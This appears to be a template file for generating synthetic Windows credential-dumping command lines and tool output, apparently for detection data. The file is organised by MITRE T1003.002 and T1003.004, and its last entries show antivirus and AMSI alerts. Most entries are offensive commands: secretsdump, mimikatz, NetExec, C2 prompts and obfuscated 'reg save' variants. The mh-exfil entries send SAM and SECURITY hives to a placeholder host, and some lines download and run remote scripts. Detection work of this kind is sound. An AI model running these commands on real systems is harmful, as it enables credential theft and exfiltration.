mh-rekall bash: «rekall¦rekal» -f ‹lfile› «hashdump¦hivedump --hive SAM»
mh-vm-disk bash: «guestmount -a ‹ldir›/‹name›.vmdk -i --ro /mnt/‹word› && cp /mnt/‹word›/Windows/System32/config/SAM .¦virt-copy-out -a ‹name›.qcow2 /Windows/System32/config/SAM ‹ldir›¦guestfish --ro -a ‹name›.vhdx -i download /Windows/System32/config/SAM ‹name›¦virt-cat -a ‹name›.qcow2 /Windows/System32/config/SAM > ‹name›»
mh-vm-disk-7z bash: 7z «x¦e» ‹name›.«vmdk¦vhd¦vhdx» -o‹ldir› 'Windows/System32/config/«SAM¦SYSTEM»'
mh-vm-volumiser cmd: «Volumiser.exe --image ‹dir›\‹name›.vmdk --command extract --path \Windows\System32\config\SAM¦Volumiser.exe --image aws://snap-0‹hash› --command extract --path Windows/System32/config/SYSTEM¦VMkatz.exe --disk ‹dir›\‹name›.vmdk»
mh-vm-esxi bash: vmkfstools -i /vmfs/volumes/‹word›/‹name›/‹name›.vmdk /tmp/‹name›.vmdk && vmfs-tools/guestmount -i -a /tmp/‹name›.vmdk /mnt && secretsdump.py -sam /mnt/Windows/System32/config/SAM -system /mnt/Windows/System32/config/SYSTEM LOCAL
mh-vm-mount-ps powershell: Mount-«VHD¦DiskImage» -Path ‹dir›\‹name›.vhdx -ReadOnly; Copy-Item «F¦G»:\Windows\System32\config\«SAM,F:\Windows\System32\config\SYSTEM¦SAM» ‹dir›
mh-vm-qemu bash: qemu-nbd -r -c /dev/nbd0 ‹ldir›/‹name›.«qcow2¦vmdk» && mount -o ro /dev/nbd0p«2¦3» /mnt && samdump2 /mnt/Windows/System32/config/SYSTEM /mnt/Windows/System32/config/SAM
mh-vm-snapshot bash: aws ec2 create-snapshot --volume-id vol-0‹hash› && mount /dev/xvdf2 /mnt && secretsdump.py -system /mnt/Windows/System32/config/SYSTEM -sam /mnt/Windows/System32/config/SAM «-security /mnt/Windows/System32/config/SECURITY ¦»local
mh-live-kali bash: ntfs-3g -o ro,force /dev/«sda3¦nvme0n1p3¦sdb2» /mnt/win && cd /mnt/win/Windows/System32/config && «samdump2 SYSTEM SAM¦pwdump.py SYSTEM SAM¦secretsdump.py -sam SAM -system SYSTEM LOCAL¦cp SAM SYSTEM /root»
mh-live-bitlocker bash: dislocker -V /dev/sda3 -p‹pid›‹pid› -- /mnt/bl && mount -o loop,ro /mnt/bl/dislocker-file /mnt/w && cp /mnt/w/Windows/System32/config/{SAM,SYSTEM} ‹ldir›
mh-live-winre cmd: copy «D¦E¦C»:\Windows\System32\config\«SAM¦SYSTEM» «X:\¦F:\loot\¦G:\»‹name›
mh-live-winre-reg cmd: reg load HKLM\‹Word› «D¦E»:\Windows\System32\config\SAM & reg query HKLM\‹Word›\SAM\Domains\Account\Users /s
mh-live-hirens text: «Hiren's BootCD PE: NTPWEdit opened C:\Windows\System32\config\SAM, user list read¦Offline NT Password Editor: Which one do you want? hives SAM SYSTEM SECURITY loaded from /Windows/System32/config¦PCUnlocker: SAM registry hive C:\Windows\System32\config\SAM, accounts read»
mh-live-ophcrack bash: «ophcrack-cli¦ophcrack» -«g -d ‹ldir› -t ‹name›,0,3 -w /mnt/‹word›/Windows/System32/config¦w /mnt/Windows/System32/config -n 4¦W ‹ldir›/config -o ‹lfile›»
mh-cain-text text: «Cain & Abel: Cracker tab, Add NT hashes from local system, SAM with history¦L0phtCrack 7: Import from this machine, SAM hashes of ‹server›¦L0phtCrack: import hashes from SAM/SYSTEM file ‹file›¦Passware Kit: Windows user, SAM and SYSTEM files from ‹dir›¦Elcomsoft System Recovery: dump password hashes from SAM»
mh-cain-lsa text +T1003.004: «Cain & Abel: LSA Secrets Dumper started on \\‹server› (Abel)¦Elcomsoft Proactive System Password Recovery: LSA secrets shown¦Cain: Decoders > LSA Secrets > _SC_‹name› = ‹pass›»
mh-passcape text: «Passcape Reset Windows Password: dump password hashes, SAM registry ‹dir›\SAM, SYSTEM registry ‹dir›\SYSTEM¦SAMInside: Import SAM and SYSTEM registry files ‹dir›\SAM ‹dir›\SYSTEM¦SAMInside: Import local users using LSASS/Scheduler, export to ‹name›.pwdump»
mh-secretsdump-bootkey bash: «secretsdump.py¦impacket-secretsdump» -sam ‹lfile› -bootkey 0x‹hash› «-history ¦»LOCAL
mh-secretsdump-cwd bash: «impacket-secretsdump¦secretsdump.py¦pipx run --spec impacket secretsdump.py» -sam «sam.save¦SAM¦sam.hive¦SAM-‹pid›» -system «system.save¦SYSTEM¦system.hive» «LOCAL¦local»‹lmaybe›
mh-secretsdump-security bash +T1003.004: «impacket-secretsdump¦secretsdump.py» -security «security.save¦SECURITY» -system «system.save¦SYSTEM» LOCAL
mh-secretsdump-proxychains bash: «proxychains¦proxychains4 -q» «secretsdump.py¦impacket-secretsdump» -no-pass ‹domain›/‹user›@‹ip›« -exec-method «smbexec¦wmiexec¦mmcexec»¦»
mh-secretsdump-vss bash: secretsdump.py -use-remoteSSWMI« -use-remoteSSWMI-NTDS¦»« -remoteSS-remote-volume 'C:\\'¦» '‹domain›/‹user›:‹pass›'@‹ip›
mh-secretsdump-loop bash: «for h in $(cat ‹lfile›); do secretsdump.py ./Administrator@$h -hashes :‹hash› -outputfile $h; done¦while read h; do timeout 60 impacket-secretsdump ‹domain›/‹user›:'‹pass›'@$h; done < ‹lfile›¦parallel -j8 secretsdump.py -hashes :‹hash› ‹user›@{} :::: ‹lfile›»
mh-secretsdump-out text: «Impacket v0.11.0 - Copyright 2023 Fortra ¦»[*] Service RemoteRegistry is in stopped state [*] Starting service RemoteRegistry [*] Target system bootKey: 0x‹hash› [*] Dumping local SAM hashes (uid:rid:lmhash:nthash)
mh-secretsdump-out-local text: [*] Dumping local SAM hashes (uid:rid:lmhash:nthash) Administrator:500:aad3b435b51404eeaad3b435b51404ee:‹hash›::: «Guest¦‹user›»:50‹n›:aad3b435b51404eeaad3b435b51404ee:31d6cfe0d16ae931b73c59d7e0c089c0:::
mh-secretsdump-out-lsa text +T1003.004: [*] Dumping LSA Secrets [*] «$MACHINE.ACC ‹domain›\‹host›$:aes256-cts-hmac-sha1-96:‹hash›‹hash›¦DPAPI_SYSTEM dpapi_machinekey:0x‹hash› dpapi_userkey:0x‹hash›¦_SC_‹name› ‹domain›\‹user›:‹pass›¦DefaultPassword ‹user›:‹pass›»
mh-secretsdump-py text: from impacket.examples.secretsdump import «LocalOperations, SAMHashes; SAMHashes('SAM', LocalOperations('SYSTEM').getBootKey()).dump()¦RemoteOperations, SAMHashes; s = SAMHashes(remote.saveSAM(), bootKey, isRemote=True); s.dump()»
mh-secretsdump-py-lsa text +T1003.004: from impacket.examples.secretsdump import LSASecrets; LSASecrets(«remote.saveSECURITY(), bootKey, remote, isRemote=True¦'SECURITY', bootKey»).dumpSecrets()
mh-secretsdump-winexe cmd: ‹dir›\«secretsdump_windows.exe¦secretsdump.exe¦‹name›.exe» «./¦‹domain›/»‹user›:‹pass›@«127.0.0.1¦localhost¦‹ip›»
mh-ntlmrelay bash: «ntlmrelayx.py¦impacket-ntlmrelayx» -t smb://‹ip› -smb2support« -socks¦ --no-http-server¦ -of ‹name›¦» # [*] Target system bootKey, [*] Done dumping SAM hashes for host
mh-ntlmrelay-out text: [*] Authenticating against smb://‹ip› as ‹domain›/‹user› SUCCEED [*] Target system bootKey: 0x‹hash› [*] «Dumping local SAM hashes (uid:rid:lmhash:nthash)¦Done dumping SAM hashes for host: ‹ip›»
mh-smbrelay-responder text: «MultiRelay: [‹domain›\‹user›:‹ip›] > dump¦Responder MultiRelay #> hashdump SAM saved to ./logs/SAM-‹ip›.txt¦python MultiRelay.py -t ‹ip› -u ALL -d»
mh-smbexec-shell text: C:\Windows\system32> lput ‹name›.exe [smbexec] reg save HKLM\SAM sam.save && lget sam.save
mh-regsecrets-opts bash: «regsecrets.py¦impacket-regsecrets¦regsecrets» «-k -no-pass ‹user›@‹host›.‹fqdn›¦-hashes :‹hash› ‹user›@‹ip› -skip-security¦-outputfile ‹name› ‹domain›/‹user›@‹ip›»
mh-dploot bash +T1003.004: «dploot machinecredentials -d ‹fqdn› -u ‹user› -p '‹pass›' -t ‹ip› # DPAPI_SYSTEM¦DonPAPI collect -t ‹ip› -u ‹user› -p '‹pass›' --collectors LSA¦donpapi collect --lsa -d ‹domain› -u ‹user› -H :‹hash› -t ‹ip›»
mh-donpapi-sam bash: «DonPAPI¦donpapi» «collect ¦»-d ‹domain› -u ‹user› -p '‹pass›' -t ‹ip› --«sam¦dump-sam¦collectors SAMDump»
mh-lsassy-reg bash: «go-secdump¦./go-secdump» --host ‹ip› --user ‹user› --«pass '‹pass›'¦hash ‹hash›» --«sam¦sam --lsa¦dump»
mh-lsassy-reg-lsa bash +T1003.004: «go-secdump¦./go-secdump» --host ‹ip› --user ‹user› --pass '‹pass›' --lsa« --backup-dacl¦»
mh-nxc-forms bash: «nxc¦netexec¦NetExec» smb «‹lfile›¦‹ip›/24» -u ‹user› -H ‹hash› «--local-auth --sam¦--sam regdump¦--sam secdump¦--sam --lsa --continue-on-success»
mh-nxc-winrm bash: «nxc¦netexec¦cme» winrm ‹ip› -u ‹user› -p '‹pass›' --sam«  --dump-method powershell¦ --dump-method cmd¦»
mh-nxc-lsa-forms bash +T1003.004: «nxc¦netexec¦NetExec» smb «‹lfile›¦‹ip›» -u ‹user› -H ‹hash› --lsa« secdump¦ regdump¦»
mh-nxc-x bash: «nxc¦crackmapexec» smb ‹ip› -u ‹user› -p '‹pass›' -«x¦X» 'reg save HKLM\«SAM¦SYSTEM» C:\Windows\Temp\‹name›'
mh-nxc-get bash: «nxc¦crackmapexec» smb ‹ip› -u ‹user› -p '‹pass›' --get-file '\\Windows\\Temp\\«SAM¦sam.hiv¦sam.save»' ‹ldir›/SAM
mh-nxc-out text: SMB         ‹ip›   445    ‹server›   [«+] Dumping SAM hashes¦+] Added ‹n› SAM hashes to the database»
mh-nxc-out-hash text: SMB ‹ip› 445 ‹server› Administrator:500:aad3b435b51404eeaad3b435b51404ee:‹hash›::: [+] Dumping SAM hashes
mh-nxc-out-lsa text +T1003.004: SMB ‹ip› 445 ‹server› [+] Dump«ing LSA secrets¦ed ‹n› LSA secrets to /root/.nxc/logs/‹host›_‹ip›.secrets»
mh-cmedb bash: «sqlite3 ~/.nxc/workspaces/default/smb.db¦nxcdb -c» "select * from users" && «nxc smb ‹ip› -id ‹n› --sam¦cme smb ‹ip› -id ‹n› --sam»
mh-smbmap bash: smbmap -H ‹ip› -u ‹user› -p '‹pass›' «--download 'C$\Windows\Temp\sam.save'¦-x 'reg save HKLM\SAM C:\Temp\‹name›'¦--download 'C$\Windows\System32\config\RegBack\SAM'»
mh-smbclient-more bash: smbclient '\\‹ip›\«ADMIN$¦C$»' -U '‹domain›/‹user›%‹pass›' -c '«cd System32/config/RegBack; get SAM¦lcd ‹ldir›; get Windows/Temp/sam.hiv¦prompt off; mget Windows/Temp/*.hiv»'
mh-smbclient-py text: # «use C$; cd Windows/Temp; get sam.save¦use ADMIN$; get repair\SAM¦get System32\config\RegBack\SYSTEM» [smbclient.py ‹domain›/‹user›@‹ip›]
mh-winexe bash: «winexe¦pth-winexe» -U '‹domain›/‹user›%‹pass›' //‹ip› 'cmd /c reg save HKLM\«SAM¦SYSTEM» C:\‹name›'
mh-samba-net-rpc bash: net rpc registry «save 'HKLM\SAM' ‹name›.hiv¦export 'HKLM\SAM' ‹name›.reg¦enumerate_recursive 'HKLM\SAM\SAM\Domains\Account\Users'» -S ‹ip› -U '‹user›%‹pass›'
mh-samba-net-rpc-security bash +T1003.004: net rpc registry «save 'HKLM\SECURITY' ‹name›.hiv¦enumerate_recursive 'HKLM\SECURITY\Policy\Secrets'» -S ‹ip› -U '‹user›%‹pass›'
mh-pypykatz-parse cmd: «pypykatz¦python -m pypykatz» registry ‹dir›\SYSTEM --sam ‹dir›\SAM«  -o ‹file›¦ --json¦»
mh-pypykatz-security bash +T1003.004: «pypykatz¦python3 -m pypykatz» registry --security ‹lfile› ‹lfile›‹lmaybe›
mh-pypykatz-out text: «============== SYSTEM hive secrets ==============  CurrentControlSet: ControlSet001 Boot Key: ‹hash›¦============== SAM hive secrets ============== HBoot Key: ‹hash›‹hash› Administrator:500:aad3b435b51404eeaad3b435b51404ee:‹hash›:::»
mh-pypykatz-out-lsa text +T1003.004: ============== SECURITY hive secrets ============== Iteration count: 10240 LSA Key: ‹hash›‹hash› === LSA «Machine account password¦DPAPI secret¦Service User ‹name›» ===
mh-pypykatz-aiosmb bash: «asmbshell¦aiosmbclient» smb2+ntlm-«password¦nt»://‹domain›\\‹user›:«‹pass›¦‹hash›»@‹ip› 'regdump' 'exit' # SAM
mh-mimi-out text: Domain : ‹server› SysKey : ‹hash› Local SID : S-1-5-21-‹pid›‹pid›-‹pid›‹pid› SAMKey : ‹hash› RID  : 000001f4 (500) User : Administrator Hash NTLM: ‹hash›
mh-mimi-out-secrets text +T1003.004: Policy subsystem is : 1.18 LSA Key(s) : 1, default ‹guid› Secret  : «_SC_‹name› / service '‹name›' with username : ‹domain›\‹user› cur/text: ‹pass›¦DefaultPassword cur/text: ‹pass›¦NL$KM cur/hex : ‹hash›»
mh-mimi-netsync text: mimikatz # lsadump::«lsa /inject /name:‹user›¦lsa /patch /name:Administrator¦sam /sam:‹dir›\SAM /system:‹dir›\SYSTEM¦trust; lsadump::sam»
mh-mimi-driver cmd: «m¦mimi¦katz¦‹name›».exe "!+" "!processtoken" "lsadump::sam" "exit"
mh-mimi-elevate-cmd cmd: «type ‹name›.txt | ¦»mimikatz.exe "privilege::debug" "token::elevate /«domainadmin¦system»" "lsadump::sam" "lsadump::secrets" exit > ‹file›
mh-mimi-renamed-hive cmd: ‹dir›\«updater¦svch0st¦vlc¦chrome_upd¦‹name›».exe "lsadump::sam /system:«s1.tmp¦sys.bin» /sam:«s2.tmp¦sa.bin»" "exit"
mh-mimi-sliver text: sliver (‹Word›) > «mimikatz "token::elevate lsadump::sam exit"¦sharpsecdump -target=‹ip›¦execute -o reg save HKLM\SAM C:\‹name›¦sideload /opt/mimikatz.dll "lsadump::sam exit"»
mh-sliver-hive text: sliver (‹Word›) > registry read hive --hive HKLM --save ‹lfile› «SAM¦SYSTEM»
mh-sliver-out text: [*] «Dumped HKLM\SAM hive to ‹lfile›¦Wrote ‹pid› bytes of registry hive SAM to /root/loot/‹name›¦Tasked session ‹word› hashdump»
mh-empire text: (Empire: ‹letters8›) > usemodule «powershell/credentials/powerdump¦credentials/mimikatz/sam¦powershell_credentials_mimikatz_sam¦powershell_collection_ninjacopy; set Path C:\Windows\System32\config\SAM¦csharp_credentials_sharpsecdump»
mh-empire-lsa text +T1003.004: (Empire: ‹letters8›) > usemodule «powershell/credentials/mimikatz/lsadump_secrets; execute¦powershell_credentials_mimikatz_command; set Command lsadump::secrets»
mh-covenant text: (Covenant: ‹word›) > «SamDump¦Mimikatz /command:"token::elevate lsadump::sam"¦SharpShell /code:"Credentials.SamDump()"¦ShellCmd reg save HKLM\SAM C:\‹name›»
mh-covenant-lsa text +T1003.004: (Covenant: ‹word›) > «LsaSecrets¦Mimikatz /command:"token::elevate lsadump::secrets"»
mh-mythic text: «apollo¦apollo-‹n›¦athena» > «mimikatz -Command token::elevate -Command lsadump::sam¦shell reg save HKLM\SAM C:\‹name›¦execute_assembly SharpSecDump.exe -target=127.0.0.1»
mh-poshc2 text: «PoshC2 ‹n›> hashdump¦‹user›@‹server› PS> invoke-mimikatz -command '"lsadump::sam"'¦PoshC2> run-exe SharpSecDump.Program SharpSecDump -target=localhost¦koadic: (imp: hashdump_sam)# run¦(koadic: sta/js/mshta)# use implant/gather/hashdump_sam»
mh-merlin text: «Merlin[agent][‹guid›]» > «run reg save HKLM\SAM C:\‹name›¦mimikatz lsadump::sam¦execute-assembly SharpSecDump.exe -target=localhost»
mh-pupy text: >> «creddump¦run creddump -s ‹n›¦creddump --sam¦mimikatz -a "lsadump::sam"» [pupy session ‹n›]
mh-nighthawk text: «[brc4] samdump¦[*] Tasked beacon to run mimikatz's lsadump::sam command¦[+] received password hashes: Administrator:500:aad3b435b51404eeaad3b435b51404ee:‹hash›:::»
mh-msf-modules text: msf6 > use «auxiliary/scanner/smb/impacket/secretsdump¦auxiliary/gather/windows_secrets_dump¦post/windows/gather/credentials/windows_sam_hivenightmare¦post/windows/gather/hashdump» ; set RHOSTS ‹ip› ; set SMBUser ‹user› ; run
mh-msf-action bash: msfconsole -qx "use gather/windows_secrets_dump; set RHOSTS ‹ip›; set SMBUser ‹user›; set SMBPass ‹pass›; set ACTION «SAM¦ALL»; run; exit"
mh-msf-action-lsa bash +T1003.004: msfconsole -qx "use gather/windows_secrets_dump; set RHOSTS ‹ip›; set SMBUser ‹user›; set ACTION LSA; run; exit"
mh-msf-post-reg text: meterpreter > «reg save -k 'HKLM\SAM'¦execute -H -f reg.exe -a "save HKLM\SAM C:\\Windows\\Temp\\‹name›"¦download C:\\Windows\\Temp\\sam.hiv /root/loot¦run post/windows/manage/vss_mount; download config\\SAM»
mh-msf-loot text: [*] Obtaining the boot key... [*] Calculating the hboot key using SYSKEY ‹hash›... [*] Obtaining the user list and keys... [*] Decrypting user keys... [*] Dumping password hint«s¦s (SAM)»
mh-msf-loot-lsa text +T1003.004: [*] Executing module against ‹server› [*] Obtaining LSA key... [*] Vista or above system [+] Key: «DefaultPassword¦_SC_‹name›» Username: ‹user› Decrypted Value: ‹pass›
mh-msf-rpc text: client.modules.use('post', 'windows/gather/«hashdump¦smart_hashdump»'); m['SESSION'] = ‹n›; m.execute()
mh-msf-rpc-secrets text +T1003.004: client.modules.use('post', 'windows/gather/lsa_secrets'); m['SESSION'] = ‹n›; m.execute()
mh-metasploit-json text: {"type": "post", "module": "windows/gather/«hashdump¦smart_hashdump»", "session": ‹n›, "user": "NT AUTHORITY\\SYSTEM", "host": "‹ip›"}
mh-ps-obf powershell: «&('re'+'g') ('sa'+'ve') ('HKLM\S'+'AM') ‹file›¦& (gcm r?g.exe) save ("HK"+"LM\sa"+"m") ‹file›¦$r='reg';$k='HKLM\SYS'+'TEM'; & $r save $k ‹file›¦iex ('reg save {0}\{1} C:\‹name›' -f 'HKLM','SAM')»
mh-ps-job powershell: «Start-Job { reg save HKLM\SAM $env:TEMP\‹name› }¦Register-ScheduledJob -Name ‹name› -ScriptBlock { reg save HKLM\SYSTEM C:\‹name› /y } -RunNow¦Start-ThreadJob { & reg.exe save HKLM\SAM C:\Users\Public\‹name› }»
mh-ps-task powershell: Register-ScheduledTask -TaskName ‹name› -User SYSTEM -Action (New-ScheduledTaskAction -Execute reg.exe -Argument 'save HKLM\«SAM¦SYSTEM» C:\‹name›.hiv /y'); Start-ScheduledTask ‹name›
mh-ps-task-security powershell +T1003.004: Register-ScheduledTask -TaskName ‹name› -User SYSTEM -Action (New-ScheduledTaskAction -Execute reg.exe -Argument 'save HKLM\SECURITY C:\‹name›.hiv /y')
mh-ps-cim-create powershell: Invoke-CimMethod -ComputerName ‹server› -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='reg save HKLM\«SAM¦SYSTEM» C:\Windows\Temp\‹name› /y'}
mh-ps-dcom powershell: [activator]::CreateInstance([type]::GetTypeFromProgID("«MMC20.Application¦ShellBrowserWindow»","‹server›")).Document.ActiveView.ExecuteShellCommand("cmd",$null,"/c reg save HKLM\SAM C:\‹name›","7")
mh-ps-session powershell: $s = New-PSSession ‹server›; icm $s { reg save HKLM\SAM C:\‹name›; reg save HKLM\SYSTEM C:\‹name›2 }; Copy-Item -FromSession $s C:\‹name›* ‹dir›
mh-ps-psdrive powershell: New-PSDrive -Name ‹Word› -PSProvider Registry -Root HKEY_LOCAL_MACHINE\SAM; gci ‹Word›:\SAM\Domains\Account\Users | % { $_.GetValue('«V¦F»') }
mh-ps-psdrive-security powershell +T1003.004: New-PSDrive -Name ‹Word› -PSProvider Registry -Root HKEY_LOCAL_MACHINE\SECURITY; gci ‹Word›:\Policy\Secrets -Recurse
mh-ps-offlinereg powershell: «$h = [Registry.RegistryHiveOnDemand]::new('‹dir›\SAM'); $h.GetKey('SAM\Domains\Account\Users')¦Import-Module OfflineRegistry; Get-OfflineRegistryKey ‹dir›\SAM 'SAM\Domains\Account'»
mh-ps-dsinternals powershell: «Get-BootKey -SystemHiveFilePath ‹dir›\SYSTEM; Get-SamPasswordPolicy; reg load HKLM\‹Word› ‹dir›\SAM¦Get-BootKey -Online; reg save HKLM\SAM ‹dir›\‹name›»
mh-ps-dsinternals-lsa powershell +T1003.004: Get-LsaBackupKey -ComputerName ‹server›
mh-ps-powersploit powershell: «Import-Module PowerSploit; Invoke-NinjaCopy -Path C:\Windows\System32\config\SAM -ComputerName ‹server› -LocalDestination ‹dir›\‹name›¦Get-VolumeShadowCopy | Mount-VolumeShadowCopy -Path ‹dir›; copy ‹dir›\HarddiskVolumeShadowCopy‹n›\Windows\System32\config\SAM ‹dir›»
mh-ps-nishang-copyvss powershell: «. .\Copy-VSS.ps1; Copy-VSS¦Copy-VSS -DestinationDir ‹dir›¦IEX (iwr http://‹ip›/Copy-VSS.ps1); Copy-VSS -DestinationDir $env:TEMP»
mh-ps-nishang-lsa powershell +T1003.004: «. .\Get-LSASecret.ps1; Get-LSASecret -RegistryKey DefaultPassword¦Enable-DuplicateToken; Get-LSASecret¦IEX (iwr http://‹ip›/Get-LSASecret.ps1); Enable-DuplicateToken; Get-LSASecret»
mh-ps-hashdump-functions powershell: function «Get-SamHashes¦DecryptSingleHash¦Get-UserHashes¦Get-HBootKey»($rid, $hbootkey) { $md5.ComputeHash($hbootkey[0x00..0x0f] + [BitConverter]::GetBytes($rid) + [Text.Encoding]::ASCII.GetBytes('NTPASSWORD')) }
mh-ps-hashdump-hboot powershell: $F = (gp HKLM:\SAM\SAM\Domains\Account).F; $rc4Key = $md5.ComputeHash($F[0x70..0x7F] + [Text.Encoding]::ASCII.GetBytes('!@#$%^&*()qwertyUIOPAzxcvbnmQQQQQQQQQQQQ)(*@&%') + $bootkey)
mh-ps-atomic powershell: Invoke-AtomicTest T1003.002 «-TestNumbers ‹n›¦-TestNames 'Registry dump of SAM, creds, and secrets'¦-TestNames 'esentutl.exe SAM copy'¦-TestNames 'PowerDump Hashes and Usernames from Registry'»
mh-ps-atomic-lsa powershell +T1003.004: Invoke-AtomicTest T1003.004« -TestNames 'Dumping LSA Secrets'¦ -TestNumbers 1¦ -GetPrereqs»
mh-ps-wmi-dumper powershell: «Invoke-WMIDump -ComputerName ‹server› -Hive SAM¦Invoke-RemoteHashdump -ComputerName ‹server›¦Get-RemoteLocalAccountHash -ComputerName ‹server›¦Add-RemoteRegBackdoor -ComputerName ‹server› -Trustee ‹user›; Get-RemoteLocalAccountHash -ComputerName ‹server›»
mh-ps-damp powershell +T1003.004: Get-Remote«MachineAccountHash¦CachedCredential; Get-RemoteMachineAccountHash» -ComputerName ‹server›
mh-ps-exfil powershell: Invoke-RestMethod -Uri http://‹ip›:‹port›/‹name› -Method «Post¦Put» -InFile «C:\Windows\Temp\sam.save¦$env:TEMP\SAM.hiv¦C:\Users\Public\sam.hive»
mh-ps-exfil-b64 powershell: [Convert]::ToBase64String([IO.File]::ReadAllBytes("«$env:TEMP\sam.hiv¦C:\Users\Public\SAM¦‹dir›\SAM.save»")) | «Out-File ‹file›¦clip¦% { irm http://‹ip›/ -Method Post -Body $_ }»
mh-ps-compress powershell: Compress-Archive -Path «C:\Temp\SAM,C:\Temp\SYSTEM,C:\Temp\SECURITY¦$env:TEMP\sam.hiv,$env:TEMP\system.hiv» -DestinationPath ‹file›
mh-exfil-cmd cmd: «rclone copy ‹dir›\sam.save remote:‹name›¦pscp -pw ‹pass› C:\Temp\sam.hiv ‹user›@‹ip›:/tmp¦copy C:\Temp\sam.hive \\‹ip›\‹name›\¦curl.exe -T C:\Windows\Temp\SAM.hiv ftp://‹ip›/¦bitsadmin /transfer ‹name› /upload http://‹ip›/sam C:\Temp\sam.save»
mh-exfil-rar cmd: «rar a -hp‹pass›¦"C:\Program Files\WinRAR\rar.exe" a -m5¦7z a -p‹pass›» ‹file› «sam.save system.save security.save¦C:\Temp\SAM C:\Temp\SYSTEM¦sam.hiv system.hiv»
mh-exfil-certutil cmd: certutil -f -encode C:\«Temp¦Windows\Temp¦Users\Public»\«sam.save¦SAM¦sam.hive¦sam.hiv» ‹file›
mh-exfil-security cmd +T1003.004: «certutil -encode C:\Temp\security.save ‹file›¦copy C:\Temp\security.hive \\‹ip›\‹name›\¦curl.exe -T C:\Windows\Temp\SECURITY.hiv http://‹ip›:‹port›/»
mh-exfil-nc cmd: «nc.exe ‹ip› ‹port› < C:\Temp\SAM¦ncat -w 3 ‹ip› ‹port› < sam.save¦type C:\Temp\sam.hiv | nc64.exe ‹ip› ‹port›»
mh-exfil-python cmd: python -c "import requests; requests.post('http://‹ip›:‹port›/', files={'f': open(r'C:\Windows\Temp\«sam.save¦SAM¦sam.hiv»','rb')})"
mh-john bash: «samdump2 ‹ldir›/SYSTEM ‹ldir›/SAM | tee ‹lfile›; john --format=nt ‹lfile›¦secretsdump.py -sam SAM -system SYSTEM LOCAL | grep ::: | cut -d: -f4 | hashcat -m 1000¦pwdump.py SYSTEM SAM > ‹lfile› && john ‹lfile›»
mh-hivex bash: «hivexsh ‹ldir›/SAM <<< 'cd SAM\Domains\Account\Users; ls'¦hivexget ‹ldir›/SAM 'SAM\Domains\Account\Users\000001F4' V¦hivexregedit --export ‹ldir›/SAM '\SAM\Domains\Account'¦hivexml ‹ldir›/SAM > ‹name›.xml»
mh-hivex-security bash +T1003.004: «hivexget ‹ldir›/SECURITY 'Policy\Secrets\DPAPI_SYSTEM\CurrVal'¦hivexregedit --export ‹ldir›/SECURITY '\Policy\Secrets'¦reged -x ‹ldir›/SECURITY HKEY_LOCAL_MACHINE\\SECURITY Policy ‹name›.reg»
mh-regipy bash: «regipy-dump ‹ldir›/SAM -o ‹name›.json -p 'SAM\Domains\Account\Users'¦regipy-plugins-run ‹ldir›/SAM -o ‹name›.json¦python3 -c "from regipy.registry import RegistryHive; print(list(RegistryHive('SAM').recurse_subkeys()))"¦python3 -c "from Registry import Registry; r=Registry.Registry('SAM'); print(r.open('SAM\\Domains\\Account\\Users').subkeys())"»
mh-reglookup bash: «reglookup -p /SAM/Domains/Account/Users ‹ldir›/SAM¦regfexport ‹ldir›/SAM¦regfmount ‹ldir›/SAM /mnt/‹word›¦samusrtool ‹ldir›/SAM¦yarp-print ‹ldir›/SAM»
mh-chainsaw cmd: «notatin.exe -i ‹dir›\SAM -o ‹name›.csv¦chainsaw dump ‹dir›\SAM --json¦reg_parser.exe ‹dir›\SAM¦WRR.exe ‹dir›\SAM¦hobocopy C:\Windows\System32\config ‹dir› SAM»
mh-nirsoft-offline cmd: «RegistryChangesView.exe /DataSourceDirection1 2 /SnapshotFolder ‹dir› /SaveSnapshot SAM¦RegFileExport.exe ‹dir›\SAM ‹name›.reg¦OfflineRegistryFinder.exe /BaseKey SAM /RegFolder ‹dir›»
mh-nirsoft-export-security cmd +T1003.004: «RegFileExport.exe ‹dir›\SECURITY ‹name›.reg HKEY_LOCAL_MACHINE\SECURITY\Policy\Secrets¦LSASecretsView.exe /external ‹dir› /scomma ‹file›¦LSASecretsDump.exe /external»
mh-tools-csharp cmd: ‹dir›\«SharpSecDump.exe -target=‹ip›¦SharpKatz.exe --Command lsadump::sam¦SharpSAMDump.exe¦‹name›.exe --Command lsadump::sam»
mh-tools-lazagne cmd: «lazagne.exe¦laZagne.exe¦‹dir›\‹name›.exe» windows« -oN -output ‹dir›¦ -v¦» & reg save ‹hklm›\SAM ‹file›
mh-lazagne-out text: ------------------- «Hashdump passwords ----------------- Administrator:500:aad3b435b51404eeaad3b435b51404ee:‹hash›:::¦Lsa_secrets passwords ----------------- DPAPI_SYSTEM, NL$KM, $MACHINE.ACC and Hashdump of SAM»
mh-lazagne-lsa text +T1003.004: [+] LaZagne Lsa_secrets passwords: «$MACHINE.ACC¦_SC_‹name›¦DefaultPassword» ‹pass›
mh-tools-nativedump cmd: «go-secdump.exe --host ‹ip› --user ‹user› --pass ‹pass› --sam¦silentharvest.exe --sam --secrets¦wce.exe -w & pwdump8.exe¦py ‹dir›\regsecrets.py ‹user›@‹ip› -hashes :‹hash›»
mh-sharp-lsa cmd +T1003.004: «SharpDPAPI.exe machinetriage¦SharpDPAPI.exe machinemasterkeys¦SharpKatz.exe --Command lsadump::secrets¦BetterSafetyKatz.exe token::elevate lsadump::secrets exit»
mh-execute-assembly text: beacon> execute-assembly /opt/«SharpSecDump.exe -target=‹ip›¦SharpKatz.exe --Command lsadump::sam¦SharpSAMDump.exe¦BetterSafetyKatz.exe lsadump::sam exit»
mh-defender text: Microsoft Defender Antivirus «detected¦blocked» «HackTool:Win32/PWDump¦HackTool:Win32/Fgdump¦HackTool:Win32/Gsecdump¦HackTool:Win32/QuarksPwDump¦HackTool:PowerShell/PowerDump¦HackTool:Win32/SAMDump¦Exploit:Win32/CVE-2021-36934» process: ‹dir›\‹name›.exe
mh-defender-cmd text: Threat: «Behavior:Win32/SAMDump¦Behavior:Win32/CredDump¦HackTool:Win32/SAMDump» CmdLine: reg save hklm\sam ‹dir›\‹name› User: ‹domain›\‹user› Action: Quarantine
mh-defender-lsa text +T1003.004: Defender: «HackTool:Win32/LSASecretsView¦HackTool:Win32/LSASecretsDump¦HackTool:Win32/LsaDump» «found¦blocked» in ‹dir›\«LSASecretsView¦LSASecretsDump64¦‹name›».exe on ‹server›
mh-amsi text: AMSI «AmsiScanBuffer¦scan result 32768»: content "function Invoke-«PowerDump¦NinjaCopy¦PassHashes»" blocked in powershell.exe pid ‹pid›, Get-BootKey, SAM\SAM\Domains\Account
